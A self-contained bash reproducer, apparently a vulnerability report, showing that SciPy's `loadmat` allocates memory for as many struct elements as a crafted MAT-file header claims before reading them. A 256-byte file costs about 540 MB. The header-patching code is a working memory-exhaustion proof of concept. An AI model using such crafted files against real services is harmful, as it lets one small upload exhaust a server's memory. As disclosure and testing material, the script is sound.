#!/usr/bin/env bash
# SciPy 1.17.1: `scipy.io.loadmat` makes and fills an array of objects as large as a file's header says, before it looks for them.
#
# A struct array of 2^26 elements is claimed by a file of 256 bytes, which has one. Half a gigabyte is filled with None, then the
# first element is found missing ("could not read bytes"). 2^31 - 1 elements would be 17 GB. Files come from elsewhere, so
# this is a way to fill a machine's memory. (Arrays of numbers are safe: their bytes are compared first.)
# Guessed before the run: an error at once, since so many elements need 8 bytes each in the file.
# Seen (Python 3.11, NumPy 2.4.6): OSError after the memory had grown by 540 MB (of 2^28 elements by 2.1 GB, in 25 s on a busy machine).
set -euo pipefail
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
python3 -m venv env
env/bin/pip install --quiet scipy==1.17.1 numpy==2.4.6
cat >program.py <<'PROGRAM'
import io
import resource
import struct

import numpy as np
import scipy.io


def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1e3


file = io.BytesIO()
scipy.io.savemat(file, {"s": np.zeros((1, 1), [("a", object)])})
data = file.getvalue()
at = data.index(struct.pack("<IIii", 5, 8, 1, 1)) + 8  # of the dimensions
data = data[:at] + struct.pack("<ii", 1, 2**26) + data[at + 8 :]
before = peak()
try:
    scipy.io.loadmat(io.BytesIO(data))
    ending = "no error"
except Exception as error:
    ending = f"{type(error).__name__}: {error}"
grown = peak() - before
print(f"{len(data)} bytes, {ending}; memory grew by {grown:.0f} MB")
assert ending == "OSError: could not read bytes"
assert grown > 400
PROGRAM
env/bin/python program.py
